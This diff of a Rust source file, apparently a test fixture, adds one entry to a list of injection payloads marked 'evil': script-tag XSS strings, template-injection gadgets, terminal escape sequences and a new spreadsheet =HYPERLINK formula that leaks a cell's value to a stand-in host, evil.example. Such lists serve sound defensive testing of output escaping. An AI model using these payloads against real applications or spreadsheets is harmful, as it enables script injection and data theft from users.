@@ -7,7 +7,7 @@ use std::os::unix::ffi::OsStrExt;
 use std::path::Path;
 
 /// What is smuggled in. The marker is `evil`: the element `<evil`, the attribute `onevil=`, the variable `window.evil`.
-pub const PAYLOADS: [&str; 12] = [
+pub const PAYLOADS: [&str; 13] = [
     "<script>window.evil=1</script>",
     "</script><script>window.evil=2</script>",
     "</style></title></svg></desc></textarea><evil>",
@@ -20,6 +20,7 @@ pub const PAYLOADS: [&str; 12] = [
     "|`|<evil>|``@evil-team#1|",
     "{{constructor.constructor('window.evil=7')()}}${window.evil=8}",
     "&lt;evil&gt;&#60;evil&#62;\u{0}\u{1b}]8;;http://evil\u{7}%3Cevil%3E",
+    "=HYPERLINK(\"//evil.example/?\"&A1,\"evil\")",
 ];
 
 /// One megabyte of one word.
